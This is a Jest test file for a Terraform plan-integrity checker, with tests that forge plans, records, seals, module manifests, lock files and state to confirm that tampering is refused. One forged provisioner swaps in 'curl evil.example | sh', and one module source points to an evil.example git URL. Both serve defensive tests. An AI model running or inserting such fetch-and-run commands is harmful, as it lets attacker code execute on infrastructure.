import { readFileSync } from "node:fs";
import { describe, expect, it } from "@jest/globals";
import { Failure } from "@handrail/runner";
import { runs, seed } from "@handrail/testkit";
import * as fc from "fast-check";
import { describeBackend } from "./backend.ts";
import { type PlanArchive, readPlanArchive } from "./plan-archive.ts";
import { compareState, openReviewedPlan, type ReviewedPlanFiles } from "./plan-binding.ts";
import { type Checkout, compareCheckout, type ExpectedRecord, requireNoDifference } from "./plan-binding-checkout.ts";
import { compareLockFiles } from "./plan-binding-lock.ts";
import { type PlanRecord, parseRecord, renderRecord, sha256 } from "./plan-record.ts";
import { NONCE_LENGTH, sealPlan } from "./plan-seal.ts";
import { readPlanZip } from "./plan-zip.ts";
import { writePlanZip } from "./plan-zip-writer.ts";

const KEY = "correct horse battery staple";
const PLANS = ["first", "modules", "sensitive", "workspace", "hundred"] as const;
type Name = (typeof PLANS)[number];
const nonce = new Uint8Array(NONCE_LENGTH).fill(7);
const encode = (content: string): Uint8Array => new Uint8Array(Buffer.from(content));
const decode = (bytes: Uint8Array): string => Buffer.from(bytes).toString("utf8");

type Made = {
  name: Name;
  plan: Uint8Array;
  archive: PlanArchive;
  record: PlanRecord;
  clear: ReviewedPlanFiles;
  sealed: ReviewedPlanFiles;
  expected: ExpectedRecord;
  checkout: Checkout;
};

function recordFor(plan: Uint8Array, archive: PlanArchive, index = 0): PlanRecord {
  const { type, hash } = describeBackend(archive.backend.type, archive.backend.config);
  return {
    schema: 1,
    label: `live/${index}`,
    repository: "octo-org/infrastructure",
    runId: "123456789",
    runAttempt: 1,
    headSha: "a".repeat(40),
    baseSha: "b".repeat(40),
    directory: "live",
    workspace: archive.backend.workspace,
    backendType: type,
    backendHash: hash,
    configuration: "d".repeat(64),
    lockFile: "",
    terraformVersion: archive.terraformVersion,
    planSha256: sha256(plan),
    fingerprint: `hr1:${"f".repeat(64)}`,
    createdBy: "handrail/terraform-plan 1",
  };
}

/** The checkout that a plan was made from, as the plan has it. */
function checkoutOf(archive: PlanArchive): Checkout {
  return {
    isInitialised: true,
    lockFile: undefined,
    modules: archive.modules.map(({ key, directory, files }) => ({
      key,
      directory,
      files: files.map(({ name, bytes }) => ({ name, bytes: () => bytes })),
    })),
  };
}

function make(name: Name, index: number): Made {
  const plan = new Uint8Array(readFileSync(new URL(`../fixtures/saved-plans/${name}.tfplan`, import.meta.url)));
  const archive = readPlanArchive(plan);
  const record = recordFor(plan, archive, index);
  const { planSha256: _hash, fingerprint: _fingerprint, createdBy: _maker, schema: _schema, ...expected } = record;
  return {
    name,
    plan,
    archive,
    record,
    clear: { file: plan, record: renderRecord(record), sealKey: "" },
    sealed: { file: sealPlan(plan, record, KEY, nonce), record: renderRecord(record, KEY), sealKey: KEY },
    expected,
    checkout: checkoutOf(archive),
  };
}

const made: Made[] = PLANS.map(make);
const byName = (name: Name): Made => made[PLANS.indexOf(name)] ?? make(name, 0);

/** The whole check before terraform: why it refuses, undefined when it accepts. Anything but the Failure is a defect. */
function refusal(
  files: ReviewedPlanFiles,
  { expected, checkout }: Pick<Made, "expected" | "checkout">,
): string | undefined {
  try {
    requireNoDifference(compareCheckout(openReviewedPlan(files), expected, checkout));
    return undefined;
  } catch (error) {
    if (error instanceof Failure && error.reason === "plan-tampered") return error.what;
    throw error;
  }
}

/** What somebody who can write both files hands over without a key: everything in it is consistent. */
function forge(original: Made, change: (members: [string, Uint8Array][]) => [string, Uint8Array][]): ReviewedPlanFiles {
  const plan = writePlanZip(change([...readPlanZip(original.plan)]));
  let record = { ...original.record, planSha256: sha256(plan) };
  try {
    // Where the plan is readable, its record is made to fit.
    const { backendType, backendHash, workspace, terraformVersion } = recordFor(plan, readPlanArchive(plan));
    record = { ...record, backendType, backendHash, workspace, terraformVersion };
  } catch (error) {
    if (!(error instanceof Failure)) throw error;
  }
  return { file: plan, record: renderRecord(record), sealKey: "" };
}

function replaceIn(member: RegExp, from: string, to: string) {
  return (members: [string, Uint8Array][]): [string, Uint8Array][] => {
    let isReplaced = false;
    const changed = members.map(([name, bytes]): [string, Uint8Array] => {
      const text = Buffer.from(bytes).toString("latin1");
      if (!member.test(name) || !text.includes(from)) return [name, bytes];
      isReplaced = true;
      return [name, new Uint8Array(Buffer.from(text.replace(from, to), "latin1"))];
    });
    expect(isReplaced).toBe(true);
    return changed;
  };
}

describe("a reviewed plan", () => {
  it.each(made)("is accepted untouched, sealed and in clear: $name", (one) => {
    expect(refusal(one.clear, one)).toBeUndefined();
    expect(refusal(one.sealed, one)).toBeUndefined();
    expect(openReviewedPlan(one.sealed).plan).toEqual(one.plan);
  });

  it("tells what is inside", () => {
    const { archive } = byName("modules");
    expect(archive).toMatchObject({
      terraformVersion: "1.11.4",
      mode: "normal",
      backend: { type: "local", workspace: "default", config: { path: null, workspace_dir: null } },
      state: { serial: 3, terraformVersion: "1.11.4" },
    });
    expect(
      archive.modules.map(({ key, source, directory, files }) => [
        key,
        source,
        directory,
        files.map((file) => file.name),
      ]),
    ).toEqual([
      ["", "", ".", ["main.tf"]],
      ["network", "../modules/network", "../modules/network", ["main.tf"]],
      ["network.rules", "./rules", "../modules/network/rules", ["main.tf.json"]],
    ]);
    expect(byName("first").archive.state).toBeUndefined();
    expect(decode(byName("hundred").archive.stateBytes)).toContain("host-042");
    expect(byName("workspace").archive).toMatchObject({
      mode: "destroy",
      backend: { workspace: "stage", config: { path: "state/main.tfstate", workspace_dir: "state" } },
    });
  });

  it.each([
    [
      "a sealed file without a key",
      { record: "clear", file: "sealed", key: "" },
      /plan file is sealed, but no seal-key/,
    ],
    [
      "a sealed record without a key",
      { record: "sealed", file: "clear", key: "" },
      /record .* is sealed, but no seal-key/,
    ],
    ["a file in clear with a key", { record: "sealed", file: "clear", key: KEY }, /not a sealed plan/],
    ["a record without a seal with a key", { record: "clear", file: "sealed", key: KEY }, /has no seal/],
    ["another key", { record: "sealed", file: "sealed", key: `${KEY}!` }, /seal of the plan's record is wrong/],
  ] as const)("is refused with %s", (_, { record, file, key }, why) => {
    const one = byName("first");
    expect(refusal({ record: one[record].record, file: one[file].file, sealKey: key }, one)).toMatch(why);
  });

  it.each(["workspace", "backendType", "backendHash", "terraformVersion"] as const)(
    "is refused when its record tells another %s than the plan",
    (field) => {
      const one = byName("first");
      const record = renderRecord({ ...one.record, [field]: "another" });
      expect(refusal({ ...one.clear, record }, one)).toMatch(/^The plan was made with another .* than its record says/);
    },
  );
});

describe("with a key", () => {
  it("every changed field of the record is refused", () => {
    for (const one of made) {
      for (const field of Object.keys(one.record) as (keyof PlanRecord)[]) {
        const value = one.record[field];
        const other = typeof value === "number" ? value + 1 : `${value}0`;
        const { seal } = parseRecord(one.sealed.record);
        const text = `${renderRecord({ ...one.record, [field]: other }).slice(0, -2)},"seal":"${seal ?? ""}"}\n`;
        expect(refusal({ ...one.sealed, record: text }, one)).toEqual(expect.any(String));
      }
    }
  });

  it("files, records and seals of two plans do not go together", () => {
    for (const one of made) {
      for (const other of made.filter((candidate) => candidate !== one)) {
        expect(refusal({ ...one.sealed, file: other.sealed.file }, one)).toMatch(/authentication failed/);
        expect(refusal({ ...one.sealed, record: other.sealed.record }, one)).toMatch(/authentication failed/);
        const { seal = "" } = parseRecord(other.sealed.record);
        const swapped = one.sealed.record.replace(parseRecord(one.sealed.record).seal ?? "", seal);
        expect(refusal({ ...one.sealed, record: swapped }, one)).toMatch(/seal of the plan's record is wrong/);
        // Both of another plan are honest; only the environment knows that they are not these.
        expect(refusal(other.sealed, one)).toMatch(/another label/);
      }
    }
  });

  it("H047: one flipped bit anywhere fails closed", () => {
    const property = fc.property(
      fc.constantFrom(...made),
      fc.nat(),
      fc.integer({ min: 0, max: 7 }),
      fc.boolean(),
      (one, at, bit, isFile) => {
        const bytes = Uint8Array.from(isFile ? one.sealed.file : encode(one.sealed.record));
        const place = at % bytes.length;
        bytes[place] = (bytes[place] ?? 0) ^ (1 << bit);
        const files = isFile ? { ...one.sealed, file: bytes } : { ...one.sealed, record: decode(bytes) };
        expect(refusal(files, one)).toEqual(expect.any(String));
      },
    );
    fc.assert(property, { numRuns: runs(300, 10_000), seed: seed() });
    const { sealed } = byName("first");
    const flipped = Uint8Array.from(sealed.file);
    flipped[50] = (flipped[50] ?? 0) ^ 1;
    expect(refusal({ ...sealed, file: flipped }, byName("first"))).toMatch(/authentication failed/);
  });

  it("a file that is cut, longer, or put together from two is refused", () => {
    const property = fc.property(fc.constantFrom(...made), fc.constantFrom(...made), fc.nat(), (one, other, at) => {
      const place = at % one.sealed.file.length;
      const head = one.sealed.file.subarray(0, place);
      const spliced = Buffer.concat([head, other.sealed.file.subarray(place)]);
      const longer = Buffer.concat([one.sealed.file, other.sealed.file.subarray(0, 1 + (at % 50))]);
      for (const file of [head, longer, ...(Buffer.compare(spliced, one.sealed.file) === 0 ? [] : [spliced])]) {
        const isOther = Buffer.compare(file, other.sealed.file) === 0;
        const files = { ...one.sealed, file };
        expect(isOther ? "the other plan" : refusal(files, one)).toEqual(expect.any(String));
      }
    });
    fc.assert(property, { numRuns: runs(100, 5000), seed: seed() });
  });
});

describe("without a key, what contradicts itself or the environment is refused", () => {
  it("H043: a plan file that was replaced beside its record", () => {
    for (const one of made) {
      for (const other of made.filter((candidate) => candidate !== one)) {
        expect(refusal({ ...one.clear, file: other.clear.file }, one)).toBe(
          "The plan file is not the one its record was made for",
        );
      }
    }
  });

  it("any changed byte of the plan file", () => {
    const property = fc.property(
      fc.constantFrom(...made),
      fc.nat(),
      fc.integer({ min: 1, max: 255 }),
      (one, at, by) => {
        const file = Uint8Array.from(one.plan);
        file[at % file.length] = (file[at % file.length] ?? 0) ^ by;
        expect(refusal({ ...one.clear, file }, one)).toEqual(expect.any(String));
      },
    );
    fc.assert(property, { numRuns: runs(200, 10_000), seed: seed() });
  });

  it("each field that the run, the checkout or the plan knows", () => {
    for (const one of made) {
      const known = [...Object.keys(one.expected), "planSha256", "schema"] as (keyof PlanRecord)[];
      for (const field of known) {
        const value = one.record[field];
        const record = { ...one.record, [field]: typeof value === "number" ? value + 1 : `${value}0` };
        expect(refusal({ ...one.clear, record: renderRecord(record) }, one)).toEqual(expect.any(String));
      }
    }
  });

  it("H041: a consistent plan for another place of the state", () => {
    const one = byName("workspace");
    const forged = forge(one, replaceIn(/^tfplan$/, "state/main.tfstate", "state/evil.tfstate"));
    expect(forged.record).not.toContain(one.record.backendHash);
    expect(refusal(forged, one)).toBe("The plan was made with another place for the state");
    // The same with an honest record: the two contradict each other.
    const record = renderRecord({ ...one.record, planSha256: sha256(forged.file) });
    expect(refusal({ ...forged, record }, one)).toBe(
      "The plan was made with another place for the state than its record says",
    );
  });

  it("H041: a path that only a lenient reader takes for the same", () => {
    const one = byName("workspace");
    // An overlong "a" (0xC1 0xA1): no UTF-8, and for terraform another file.
    const forged = forge(one, replaceIn(/^tfplan$/, "state/main.tfstate", "st\u00c1\u00a1te/ain.tfstate"));
    expect(refusal(forged, one)).toMatch(/damaged plan inside/);
  });

  it("a consistent plan with another command in a provisioner", () => {
    const one = byName("first");
    const forged = forge(one, replaceIn(/main\.tf$/, "echo hello", "curl evil.example | sh"));
    expect(refusal(forged, one)).toBe("The plan was made from another configuration: main.tf differs");
  });

  it("H043: a consistent plan that another job of the run put in its place", () => {
    const [one, other] = [byName("first"), byName("sensitive")];
    const record = renderRecord({ ...recordFor(other.plan, other.archive), configuration: one.record.configuration });
    expect(refusal({ file: other.plan, record, sealKey: "" }, one)).toMatch(/another configuration: /);
  });

  it("a consistent plan with a member of another plan", () => {
    const property = fc.property(fc.constantFrom(...made), fc.constantFrom(...made), fc.nat(), (one, other, at) => {
      fc.pre(one !== other);
      const others = readPlanZip(other.plan);
      const shared = [...readPlanZip(one.plan)].filter(([name, bytes]) => {
        const replacement = others.get(name);
        // State and planned changes are for the live state and the fingerprint to contradict.
        return replacement !== undefined && name.startsWith("tfconfig/") && Buffer.compare(bytes, replacement) !== 0;
      });
      for (const [name] of shared.slice(at % Math.max(shared.length, 1))) {
        const forged = forge(one, (members) =>
          members.map(([path, bytes]) => [path, path === name ? (others.get(name) ?? bytes) : bytes]),
        );
        expect(refusal(forged, one)).toEqual(expect.any(String));
      }
    });
    fc.assert(property, { numRuns: runs(100, 2000), seed: seed() });
  });

  it("a consistent plan with the configuration files added, removed, renamed or exchanged", () => {
    const kinds = ["add", "remove", "rename", "change", "exchange"] as const;
    const property = fc.property(fc.constantFrom(...made), fc.constantFrom(...kinds), fc.nat(), (one, kind, at) => {
      const forged = forge(one, (members) => {
        const files = members.filter(([name]) => name.startsWith("tfconfig/m-"));
        const [name, bytes] = files[at % files.length] ?? ["", new Uint8Array()];
        const place = members.findIndex(([path]) => path === name);
        const other = files[(at + 1) % files.length]?.[1] ?? bytes;
        const added: [string, Uint8Array] = [name.replace(/[^/]+$/, "zz.tf"), encode("locals {}\n")];
        const changes: Record<(typeof kinds)[number], () => [string, Uint8Array][]> = {
          add: () => members.toSpliced(place + 1, 0, added),
          remove: () => members.toSpliced(place, 1),
          rename: () => members.with(place, [name.replace(/([^/]+)$/, "x$1"), bytes]),
          change: () => members.with(place, [name, new Uint8Array(Buffer.concat([bytes, Buffer.from("\n")]))]),
          exchange: () => members.with(place, [name, files.length > 1 ? other : encode("")]),
        };
        return changes[kind]();
      });
      expect(refusal(forged, one)).toMatch(/configuration|module/);
    });
    fc.assert(property, { numRuns: runs(150, 3000), seed: seed() });
  });

  it("a manifest that looks for modules elsewhere, or names what nobody calls", () => {
    const one = byName("modules");
    const cases: [from: string, to: string, why: RegExp][] = [
      ['"Dir": "../modules/network"', '"Dir": "../modules/evil"', /^$/],
      ['"Source": "./rules"', '"Source": "git::https://evil.example/x.git"', /does not call/],
      ['"Key": "network.rules"', '"Key": "network.others"', /does not call|unexpected member/],
      ['"Key": "network.rules"', '"Key": "network..rules"', /unexpected|does not call/],
      ['"Dir": "."', '"Dir": ".", "dir": "/etc"', /spells Dir/],
      ['"Dir": "."', '"Dir": "/etc", "Dir": "."', /cannot be read/],
      ['"Key": ""', '"Key": "a"', /order|cannot be read/],
      ["[", "{", /cannot be read/],
    ];
    for (const [from, to, why] of cases) {
      const forged = forge(one, replaceIn(/modules\.json$/, from, to));
      if (from.includes("../modules/network"))
        expect(readPlanArchive(forged.file).modules[1]?.directory).toBe("../modules/evil");
      else expect(refusal(forged, one)).toMatch(why);
    }
    const elsewhere = {
      ...one.checkout,
      modules: one.checkout.modules.map((module) => ({ ...module, problem: "elsewhere" as const })),
    };
    expect(refusal(one.clear, { ...one, checkout: elsewhere })).toMatch(/lies in another directory/);
  });

  it("a lock file that selects other providers", () => {
    const one = byName("first");
    const provider =
      'provider "registry.terraform.io/hashicorp/null" {\n  version = "3.2.0"\n  hashes = ["h1:x="]\n}\n';
    const forged = forge(one, (members) =>
      members.map(([name, bytes]) => [name, name === ".terraform.lock.hcl" ? encode(provider) : bytes]),
    );
    expect(refusal(forged, one)).toMatch(/another selection of the provider "registry.terraform.io\/hashicorp\/null"/);
    const lockFile = `# by hand\r\n${provider.replaceAll("\n", "\r\n")}`;
    const expected = { ...one.expected, lockFile: sha256(lockFile) };
    const record = renderRecord({ ...parseRecord(forged.record).record, lockFile: sha256(lockFile) });
    expect(refusal({ ...forged, record }, { expected, checkout: { ...one.checkout, lockFile } })).toBeUndefined();
    expect(refusal(forged, { expected: one.expected, checkout: { ...one.checkout, lockFile } })).toMatch(
      /another lock file/,
    );
  });

  it("a state that terraform would read in another way", () => {
    const one = byName("modules");
    for (const [from, to] of [
      ['"serial": 3', '"serial": 3, "Serial": 4'],
      ['"serial": 3', '"serial": 3, "\\u017ferial": 4'],
      ['"serial": 3', '"serial": 2, "serial": 3'],
      ['"serial": 3', '"serial": "3"'],
      ['"serial": 3', '"serial": 3.5'],
      ['"lineage": "', '"lineage": null, "x": "'],
    ] as const) {
      expect(refusal(forge(one, replaceIn(/^tfstate$/, from, to)), one)).toMatch(/state inside|spells serial/);
    }
  });

  it("a plan message that is damaged, ambiguous or of another form", () => {
    const one = byName("first");
    const append =
      (...bytes: number[]) =>
      (members: [string, Uint8Array][]): [string, Uint8Array][] =>
        members.map(([name, content]) => [name, name === "tfplan" ? new Uint8Array([...content, ...bytes]) : content]);
    expect(refusal(forge(one, append(0xba, 0x3e, 1, 0x78)), one)).toBeUndefined();
    expect(refusal(forge(one, append(0x6a, 0)), one)).toMatch(/field 13 of its plan twice/);
    expect(refusal(forge(one, append(0x72, 0)), one)).toMatch(/field 14 of its plan twice/);
    expect(refusal(forge(one, append(0x08, 4)), one)).toMatch(/field 1 of its plan twice/);
    expect(refusal(forge(one, append(0xea, 1, 0)), one)).toMatch(/state_store/);
    expect(refusal(forge(one, append(0x00, 0)), one)).toMatch(/damaged plan/);
    expect(refusal(forge(one, append(0xbb, 0x3e)), one)).toMatch(/damaged plan/);
    expect(refusal(forge(one, append(0xff)), one)).toMatch(/damaged plan/);
    expect(refusal(forge(one, replaceIn(/^tfplan$/, "\b\u0003", "\b\u0004")), one)).toMatch(/form 4/);
    const empty = forge(one, (members) =>
      members.map(([name, bytes]) => [name, name === "tfplan" ? encode("\b\u0003") : bytes]),
    );
    expect(refusal(empty, one)).toMatch(/which backend/);
  });
});

describe("a checkout", () => {
  const one = byName("modules");

  it("fits in a later attempt of the run, and not in an earlier one", () => {
    expect(refusal(one.clear, { ...one, expected: { ...one.expected, runAttempt: 3 } })).toBeUndefined();
    const record = renderRecord({ ...one.record, runAttempt: 2 });
    expect(refusal({ ...one.clear, record }, one)).toMatch(/later attempt/);
  });

  it("lists every difference, the most telling first, and the first one becomes the Failure", () => {
    const expected = { ...one.expected, headSha: "0".repeat(40), repository: "octo-org/other", label: "x" };
    const differences = compareCheckout(openReviewedPlan(one.clear), expected, one.checkout);
    expect(differences.map(({ field }) => field)).toEqual(["repository", "headSha", "label"]);
    expect(() => requireNoDifference(differences)).toThrow(
      /was made for another repository: "octo-org\/infrastructure", not "octo-org\/other" \(and 2 more\)/,
    );
  });

  it("names the file, by its path from the root module", () => {
    const modules = one.checkout.modules.map((module) =>
      module.key === "network.rules"
        ? { ...module, files: module.files.map(({ name }) => ({ name, bytes: () => encode("{}") })) }
        : module,
    );
    expect(refusal(one.clear, { ...one, checkout: { ...one.checkout, modules } })).toBe(
      "The plan was made from another configuration: ../modules/network/rules/main.tf.json differs",
    );
  });

  it("needs every local module, and downloaded ones once init has run", () => {
    const missing = { ...one.checkout, modules: one.checkout.modules.slice(0, 2) };
    expect(refusal(one.clear, { ...one, checkout: missing })).toMatch(/"network.rules" .* is not in this checkout/);
    const source = "git::https://example.com/network.git";
    const downloaded = {
      ...one.archive,
      modules: one.archive.modules.map((module) => (module.key === "network" ? { ...module, source } : module)),
    };
    const root = { ...one.checkout, modules: one.checkout.modules.slice(0, 1) };
    const opened = { record: one.record, archive: downloaded };
    expect(compareCheckout(opened, {}, { ...root, isInitialised: false })).toEqual([]);
    expect(compareCheckout(opened, {}, root)).toHaveLength(2);
  });

  it.each([
    ["terraform", "main.tofu", undefined],
    ["terraform", "new.tf", /new.tf is missing in the plan/],
    ["opentofu", "new.tofu", /new.tofu is missing in the plan/],
    [undefined, "new.tofu", undefined],
  ] as const)("of %s with %s beside the files of the plan", (product, name, why) => {
    const [root, ...others] = one.checkout.modules;
    const files = [...(root?.files ?? []), { name, bytes: () => encode("locals {}") }];
    const modules = [{ key: "", directory: ".", files }, ...others];
    const checkout = { ...one.checkout, modules, ...(product === undefined ? {} : { product }) };
    const found = refusal(one.clear, { ...one, checkout });
    if (why === undefined) expect(found).toBeUndefined();
    else expect(found).toMatch(why);
  });

  it("of OpenTofu leaves out a .tf that has a .tofu beside it", () => {
    const tofu = { name: "main.tofu", bytes: encode("locals {}") };
    const archive = { ...one.archive, modules: [{ key: "", source: "", directory: ".", files: [tofu] }] };
    const there = ["main.tofu", "main.tf"].map((name) => ({ name, bytes: () => tofu.bytes }));
    const checkout = { ...one.checkout, modules: [{ key: "", directory: "", files: there }] };
    expect(compareCheckout({ record: one.record, archive }, {}, checkout)).toEqual([]);
    const more = {
      ...checkout,
      modules: [{ key: "", directory: "", files: [...there, { name: "b.tf", bytes: () => tofu.bytes }] }],
    };
    expect(compareCheckout({ record: one.record, archive }, {}, more)).toHaveLength(1);
  });
});

describe("the live state", () => {
  const state = { lineage: "one", serial: 3, terraformVersion: "1.11.4" };
  it.each([
    ["no state, then and now", undefined, undefined, "same"],
    ["an empty one now", undefined, { lineage: "one", serial: 0 }, "same"],
    ["a first one now", undefined, { lineage: "one", serial: 1 }, "stale"],
    ["the same", state, { lineage: "one", serial: 3 }, "same"],
    ["a later one", state, { lineage: "one", serial: 4 }, "stale"],
    ["an earlier one", state, { lineage: "one", serial: 2 }, "stale"],
    ["none any more", state, undefined, "stale"],
    ["one that was never written", state, { lineage: undefined, serial: 0 }, "stale"],
  ] as const)("with %s", (_, planned, live, result) => {
    expect(compareState(planned === undefined ? {} : { state: planned }, live)).toBe(result);
  });

  it("of another lineage is refused", () => {
    expect(() => compareState({ state }, { lineage: "other", serial: 3 })).toThrow(
      /another state: its lineage is "one"/,
    );
  });
});

describe("two lock files", () => {
  const block = (version: string, hashes: string): string =>
    `provider "registry.terraform.io/a/b" {\n  version     = "${version}"\n  constraints = "~> 1.0"\n  hashes = [${hashes}]\n}\n`;
  it.each([
    [
      "comments, order, line ends and constraints",
      block("1.0.0", '"h1:a", "zh:b"'),
      `# x\r\n${block("1.0.0", '\r\n"zh:b", # y\r\n "h1:a",\r\n').replace("~> 1.0", "1.0.0")}`,
      0,
    ],
    ["a version", block("1.0.0", '"h1:a"'), block("1.0.1", '"h1:a"'), 1],
    ["a checksum", block("1.0.0", '"h1:a"'), block("1.0.0", '"h1:a", "h1:b"'), 1],
    ["a provider", block("1.0.0", '"h1:a"'), "", 1],
    ["a checksum that is there twice", block("1.0.0", '"h1:a"'), block("1.0.0", '"h1:a", "h1:a"'), 0],
    ["a second block", block("1.0.0", '"h1:a"'), block("1.0.0", '"h1:a"').repeat(2), 1],
  ])("with %s", (_, a, b, differences) => {
    expect(compareLockFiles(a, b)).toHaveLength(differences);
    expect(compareLockFiles(b, a)).toHaveLength(differences);
  });
});
